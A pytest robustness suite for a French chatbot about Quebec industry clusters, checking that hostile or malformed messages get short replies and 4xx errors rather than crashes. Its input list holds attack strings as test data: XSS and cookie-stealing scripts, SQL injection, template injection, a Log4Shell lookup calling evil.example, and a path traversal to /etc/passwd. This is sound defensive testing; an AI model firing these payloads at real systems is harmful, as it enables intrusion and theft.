"""Hostile input over REST and socket.io: a short reply, never a trace or an apology, and the next real
question is still answered; malformed requests get a 4xx, never a 5xx."""

import json
import urllib.error
import urllib.request

import pytest
from socket_chat import SocketChat

from bot.answers import APOLOGY, EMPTY
from bot.guard import TOO_LONG
from bot.text import fold

QUESTION, ANSWER = "Quel est le secrétariat de la grappe de l'aluminium ?", "AluQuébec"

# (what the visitor sends, the reply expected or None for any sensible reply)
HOSTILE = [
    ("", EMPTY),
    ("   ", EMPTY),
    ("\n\n\t\r", EMPTY),
    ("\u200b\u200c\u200d\ufeff", EMPTY),
    ("\u202e\u202c", EMPTY),
    ("\x00\x01\x07\x1b", EMPTY),
    ("/", EMPTY),
    ("a" * 100_000, TOO_LONG),
    ("é" * 1001, TOO_LONG),
    ("Quel est le site de la grappe mode ? " * 30, TOO_LONG),
    (" " * 5000, EMPTY),
    ('/ask_secretariat{"grappe": "' + "x" * 5000 + '"}', TOO_LONG),
    ("a" * 1000, None),
    ("🙂🙂🙂", None),
    ("👨‍👩‍👧‍👦", None),
    ("🇨🇦🍁🔥💯", None),
    ("?!?!", None),
    ("...", None),
    ("\x1b[31mrouge\x1b[0m", None),
    ("mo\u200bde", None),
    ("\u202eenilno\u202c", None),
    ("\u202e? edom eppparg al ed etis el tse leuQ", None),
    ("\x7f\x80\x9f\u2028\u2029", None),
    ("g̶̢̛r̷a̴p̵p̸e̷ ̶m̸o̵d̴e̶", None),
    ("\ud800 texte", None),
    ("<script>alert('x')</script>", None),
    ("<img src=x onerror=alert(1)>", None),
    ('"><svg/onload=alert(1)>', None),
    ("javascript:alert(document.cookie)", None),
    ("<b>aluminium</b>", None),
    ("'; DROP TABLE events; --", None),
    ("1' OR '1'='1", None),
    ('" OR 1=1 --', None),
    ("{{ 7*7 }}", None),
    ("${jndi:ldap://evil.example/a}", None),
    ("{% for x in range(9) %}x{% endfor %}", None),
    ("#{7*7} <%= 7*7 %> ${7*7}", None),
    ("%s%s%s%n%x", None),
    ("../../../../etc/passwd", None),
    ("\n[ERROR] fake", None),
    ("ok\r\n2026-01-01 00:00:00 ERROR rasa.core.processor - fausse alerte", None),
    ("null", None),
    ("undefined", None),
    ("{}", None),
    ("[]", None),
    ("你好，集群是什么？", None),
    ("مرحبا، ما هي المجموعات؟", None),
    ("Привет, что такое кластер?", None),
    ("こんにちは、クラスターとは何ですか", None),
    ("שלום", None),
    ("Γειά σου κόσμε", None),
    ("नमस्ते", None),
    ("Hello, which clusters are there?", None),
    ("/restart", None),
    ("/session_start", None),
    ("/back", None),
    ("/stop", None),
    ("/nlu_fallback", None),
    ("/action_listen", None),
    ("//restart", None),
    ("/greet", None),
    ('/some_intent{"grappe": "<b>x</b>"}', None),
    ('/ask_secretariat{"grappe": "<b>x</b>"}', None),
    ('/ask_secretariat{"grappe": "' + "y" * 900 + '"}', None),
    ('/ask_secretariat{"grappe": {"$ne": null}}', None),
    ('/ask_secretariat{"grappe": ["aluminium", "mode"]}', None),
    ('/ask_secretariat@1.0{"grappe": "mode"}', None),
    ('/ask_secretariat{"grappe": "mode", "aspect": "x"}', None),
    ("/ask_website{", None),
]
IDS = [f"{index:02d}-{json.dumps(text)[1:25]}" for index, (text, _) in enumerate(HOSTILE)]


def check_reply(reply: str, expected) -> None:
    assert len(reply.strip()) >= 5, "réponse vide"
    assert reply != APOLOGY, "une entrée hostile a provoqué une panne"
    assert "Traceback" not in reply and "<script" not in reply and "onerror" not in reply
    if expected:
        assert reply.startswith(expected), reply


@pytest.mark.parametrize("text,expected", HOSTILE, ids=IDS)
def test_rest(stack, text, expected):
    chat = stack.chat()
    check_reply(chat.say(text), expected)
    assert fold(ANSWER) in fold(chat.say(QUESTION))


@pytest.fixture
def socket_chat(stack):
    chat = SocketChat(stack.url)
    yield chat
    chat.close()


@pytest.mark.parametrize("text,expected", HOSTILE, ids=IDS)
def test_socketio(socket_chat, text, expected):
    check_reply(socket_chat.say(text), expected)
    replies = socket_chat.replies_until(QUESTION, ANSWER)
    assert not any("Traceback" in reply or reply == APOLOGY for reply in replies)


def post(stack, body: bytes, content_type: str = "application/json", method: str = "POST"):
    request = urllib.request.Request(
        f"{stack.url}/webhooks/rest/webhook", data=body, method=method, headers={"Content-Type": content_type}
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


MALFORMED = [
    (b"", "application/json"),
    (b"not json", "application/json"),
    (b"\xff\xfe\x00", "application/json"),
    (b"sender=a&message=allo", "application/x-www-form-urlencoded"),
    (b"allo", "text/plain"),
    (b"[1, 2]", "application/json"),
    (b'"allo"', "application/json"),
    (b"null", "application/json"),
    (b"42", "application/json"),
    (b"[" * 100_000, "application/json"),
    (b'{"message": "allo"}', "application/json"),
    (b'{"sender": "", "message": "allo"}', "application/json"),
    (b'{"sender": null, "message": "allo"}', "application/json"),
    (b'{"sender": [1], "message": "allo"}', "application/json"),
    (b'{"sender": "a\\n[ERROR] b", "message": "allo"}', "application/json"),
    (b'{"sender": "a"}', "application/json"),
    (b'{"sender": "a", "message": null}', "application/json"),
    (b'{"sender": "a", "message": 5}', "application/json"),
    (b'{"sender": "a", "message": {"text": "x"}}', "application/json"),
    (b'{"sender": "a", "message": "allo", "metadata": "x"}', "application/json"),
    (b'{"sender": "a", "message": "' + b"x" * 2_000_000 + b'"}', "application/json"),
]


@pytest.mark.parametrize("body,content_type", MALFORMED, ids=[f"{i:02d}" for i in range(len(MALFORMED))])
def test_malformed_http_bodies_get_a_4xx_with_a_json_error(stack, body, content_type):
    status, answer = post(stack, body, content_type)
    assert 400 <= status < 500, (status, answer[:300])
    assert json.loads(answer)["error"]


@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE"])
def test_other_methods_get_a_4xx(stack, method):
    status, _ = post(stack, b"{}" if method == "PUT" else None, method=method)
    assert 400 <= status < 500


@pytest.mark.parametrize(
    "data",
    [
        "allo",
        None,
        42,
        ["allo"],
        {"message": 5},
        {"message": {"x": 1}},
        {"message": "allo"},
        {"message": "allo", "session_id": "a\nb"},
        {"message": "allo", "session_id": "x", "metadata": "y"},
    ],
)
def test_malformed_socket_messages_get_a_french_error_and_the_session_goes_on(socket_chat, data):
    socket_chat.send(data)
    assert "doit" in socket_chat.next_reply()
    assert fold(ANSWER) in fold(socket_chat.replies_until(QUESTION, ANSWER)[-1])
